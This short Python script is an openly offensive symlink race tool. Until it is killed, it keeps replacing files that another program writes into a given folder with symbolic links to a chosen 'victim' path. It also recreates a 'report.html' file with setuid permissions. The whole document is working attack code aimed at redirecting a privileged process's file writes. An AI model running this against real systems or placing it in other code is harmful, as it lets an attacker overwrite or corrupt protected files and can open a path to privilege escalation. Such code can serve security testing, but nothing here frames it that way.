"""Until it is killed, puts a link to VICTIM (argv[2]) in the place of all that somebody else writes in FOLDER (argv[1])."""
import os
import sys

folder, victim = sys.argv[1:]
while True:
    for name in os.listdir(folder) + ["host.json", "report.html", "record"]:
        path = os.path.join(folder, name)
        try:
            if os.path.islink(path) or name == "report.html" and os.path.exists(path):
                continue
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(victim, path)
        except OSError:
            pass
    for name in ("host.json", "record", "report.html"):
        try:
            os.unlink(os.path.join(folder, name))
            if name == "report.html":
                os.close(os.open(os.path.join(folder, name), os.O_CREAT | os.O_EXCL))
                os.chmod(os.path.join(folder, name), 0o4755)
        except OSError:
            pass
